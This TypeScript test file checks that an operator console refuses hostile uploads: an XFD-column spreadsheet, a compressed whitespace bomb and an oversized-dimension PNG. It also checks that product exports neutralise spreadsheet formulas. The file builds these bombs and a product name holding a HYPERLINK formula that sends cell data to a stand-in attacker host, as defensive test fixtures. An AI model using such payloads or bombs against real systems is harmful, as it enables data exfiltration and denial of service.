/**
 * Hostile uploads through the console's routes: a 2,000-row sheet with a cell at column XFD and a whitespace
 * bomb sent to the product import answer 400 naming the limit, a PNG declaring 2,400,000 × 16 pixels is refused
 * by its header, and none of them grows the server's memory by more than 64 MB; the product export neutralises
 * formulas (CSV and XLSX) and its file imports back with the names exactly as they were.
 */
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { auth } from './commerce-fixtures.js';
import { createTestApp, describeOnce, type TestContext } from './helpers/app.js';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const MB = 1024 * 1024;

function workbook(sheet: string): Buffer {
  return Buffer.from(
    zipSync({
      'xl/workbook.xml': strToU8(
        '<workbook xmlns:r="r"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ),
      'xl/_rels/workbook.xml.rels': strToU8(
        '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
      'xl/worksheets/sheet1.xml': strToU8(sheet),
    }),
  );
}

/** The largest growth of the process's RSS and heap (+ buffers) while `work` runs. */
async function growthDuring(work: () => Promise<unknown>): Promise<number> {
  const before = process.memoryUsage();
  let most = 0;
  const sample = () => {
    const now = process.memoryUsage();
    most = Math.max(
      most,
      now.rss - before.rss,
      now.heapUsed + now.arrayBuffers - before.heapUsed - before.arrayBuffers,
    );
  };
  const timer = setInterval(sample, 5);
  try {
    await work();
  } finally {
    clearInterval(timer);
    sample();
  }
  return most;
}

describeOnce('hostile uploads and the product export', () => {
  let ctx: TestContext;
  let ops = '';
  beforeAll(async () => {
    ctx = await createTestApp({ database: 'pglite' });
    const login = await ctx.app.inject({
      method: 'POST',
      url: '/api/Operator/login',
      payload: { Email: 'ops@demo.cn', Password: 'Demo@123456' },
    });
    ops = login.json().token;
  });
  afterAll(async () => {
    await ctx?.close();
  });
  const upload = (url: string, payload: Buffer, type: string) =>
    ctx.app.inject({ method: 'POST', url, headers: { ...auth(ops), 'content-type': type }, payload });

  it('refuses the XFD sheet and the whitespace bomb with a 400 naming the limit, memory bounded', async () => {
    let rows = '';
    for (let r = 1; r <= 2000; r++) rows += `<row r="${r}"><c r="XFD${r}"><v>1</v></c></row>`;
    const xfd = workbook(`<worksheet><sheetData>${rows}</sheetData></worksheet>`);
    const bomb = workbook(`<worksheet><sheetData></sheetData>${' '.repeat(60 * MB)}</worksheet>`);
    expect(bomb.length).toBeLessThan(2 * MB);
    for (const [file, limit] of [
      [xfd, '超出模板的 100 列'],
      [bomb, 'MB 的上限'],
    ] as const) {
      let res: Awaited<ReturnType<typeof upload>> | undefined;
      const growth = await growthDuring(async () => {
        res = await upload('/api/Operator/products/import?dryRun=true', file, XLSX);
      });
      expect(res!.statusCode, res!.body).toBe(400);
      expect(res!.json().Field).toBe('File');
      expect(res!.json().Error).toContain(limit);
      expect(growth).toBeLessThan(64 * MB);
    }
    // The server still answers.
    expect((await ctx.app.inject({ method: 'GET', url: '/healthz' })).statusCode).toBe(200);
  });

  it('refuses a PNG declaring 2,400,000 × 16 pixels by its header, without decoding it', async () => {
    const wide = await sharp({ create: { width: 2_400_000, height: 16, channels: 3, background: '#ffffff' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(wide.length).toBeLessThan(256 * 1024);
    let res: Awaited<ReturnType<typeof upload>> | undefined;
    const growth = await growthDuring(async () => {
      res = await upload('/api/Operator/media?kind=product', wide, 'image/png');
    });
    expect(res!.statusCode).toBe(400);
    expect(res!.json().Error).toContain('2400000×16');
    expect(growth).toBeLessThan(64 * MB);
  });

  it('exports formula-looking names behind an apostrophe (CSV and XLSX) and imports them back as they were', async () => {
    const options = (
      await ctx.app.inject({ method: 'GET', url: '/api/Operator/catalogue/options', headers: auth(ops) })
    ).json() as Record<string, { Id: number }[]>;
    const name = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const created = await ctx.app.inject({
      method: 'POST',
      url: '/api/Operator/products',
      headers: auth(ops),
      payload: {
        Catalogue: 'online',
        Name: name,
        Model: '',
        BrandId: options.Brands![0]!.Id,
        CategoryId: options.Categories![0]!.Id,
        SupplierId: options.Suppliers![0]!.Id,
        Unit: '个',
        Description: '',
        Specs: [],
        MinQuantity: 1,
        QuantityStep: 1,
        Stock: 5,
        OnSale: false,
        Prices: [{ RegionId: options.Regions![0]!.Id, Price: '9.90' }],
        Images: [],
      },
    });
    expect(created.statusCode, created.body).toBe(200);
    const csv = await ctx.app.inject({
      method: 'GET',
      url: '/api/Operator/products/export?format=csv',
      headers: auth(ops),
    });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(csv.body).not.toContain(`,"=HYPERLINK`);
    const xlsx = await ctx.app.inject({
      method: 'GET',
      url: '/api/Operator/products/export?format=xlsx',
      headers: auth(ops),
    });
    expect(xlsx.statusCode).toBe(200);
    // Imported back (dry run): the row is an update of the same product, the name as it was (no apostrophe).
    const back = await upload('/api/Operator/products/import?dryRun=true', xlsx.rawPayload, XLSX);
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toMatchObject({ Problems: [], Created: 0 });
    const real = await upload('/api/Operator/products/import', Buffer.from(csv.rawPayload), 'text/csv');
    expect(real.statusCode, real.body).toBe(200);
    const id = created.json().Id;
    const after = await ctx.app.inject({ method: 'GET', url: `/api/Operator/products/${id}`, headers: auth(ops) });
    expect(after.json().Name).toBe(name);
  });
});
